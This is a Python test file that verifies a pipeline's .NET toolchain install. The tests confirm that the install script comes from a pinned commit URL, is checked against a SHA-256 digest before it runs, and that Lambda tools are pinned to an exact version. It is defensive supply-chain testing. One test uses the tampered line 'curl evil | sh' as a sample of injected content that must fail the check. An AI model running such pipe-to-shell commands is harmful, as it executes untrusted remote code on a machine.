"""What the synth action installs is pinned: a verified dotnet-install.sh and an exact Amazon.Lambda.Tools."""

from __future__ import annotations

import hashlib
import re
import subprocess

from pipeline_constructs.dotnet_lambda import (
    DOTNET_INSTALL_SCRIPT_SHA256,
    DOTNET_INSTALL_SCRIPT_URL,
    LAMBDA_TOOLS_VERSION,
)
from pipeline_constructs.dotnet_lambda.toolchain import install_dotnet_commands, install_lambda_tools_command

SCRIPT = "/tmp/dotnet-install.sh"


def test_the_pins_are_exact():
    assert re.fullmatch(r"[0-9]+\.[0-9]+\.[0-9]+", LAMBDA_TOOLS_VERSION)
    # A commit, not a branch or the dot.net redirect (which serves whatever is newest).
    assert re.fullmatch(
        r"https://raw\.githubusercontent\.com/dotnet/install-scripts/[0-9a-f]{40}/src/dotnet-install\.sh",
        DOTNET_INSTALL_SCRIPT_URL,
    )
    assert re.fullmatch(r"[0-9a-f]{64}", DOTNET_INSTALL_SCRIPT_SHA256)


def test_the_script_is_checked_before_it_runs_and_the_tool_is_pinned():
    commands = install_dotnet_commands("10.0")
    download, check, run = commands[0], commands[1], commands[2]
    assert download.startswith(f"curl -sSfL {DOTNET_INSTALL_SCRIPT_URL} -o {SCRIPT}")  # -f: an HTTP error fails
    assert DOTNET_INSTALL_SCRIPT_SHA256 in check
    assert "sha256sum -c" in check
    assert run == f"bash {SCRIPT} --channel 10.0 --install-dir $HOME/.dotnet"
    assert commands[-1] == install_lambda_tools_command()
    assert install_lambda_tools_command().endswith(f"--version {LAMBDA_TOOLS_VERSION}")


def test_the_channel_reaches_the_shell_quoted():
    assert "--channel 'a b'" in install_dotnet_commands("a b")[2]


def _check(tmp_path, content: bytes, digest: str) -> subprocess.CompletedProcess[bytes]:
    script = tmp_path / "dotnet-install.sh"
    script.write_bytes(content)
    line = install_dotnet_commands("10.0")[1].replace(SCRIPT, str(script)).replace(DOTNET_INSTALL_SCRIPT_SHA256, digest)
    return subprocess.run(["sh", "-c", line], capture_output=True, check=False)


def test_the_checksum_line_accepts_the_right_file_and_fails_on_any_other(tmp_path):
    content = b"#!/usr/bin/env bash\necho install\n"
    good = hashlib.sha256(content).hexdigest()
    assert _check(tmp_path, content, good).returncode == 0
    assert _check(tmp_path, content + b"curl evil | sh\n", good).returncode != 0
    # The shipped check line itself: a script with other content than the pinned one fails.
    assert _check(tmp_path, content, DOTNET_INSTALL_SCRIPT_SHA256).returncode != 0
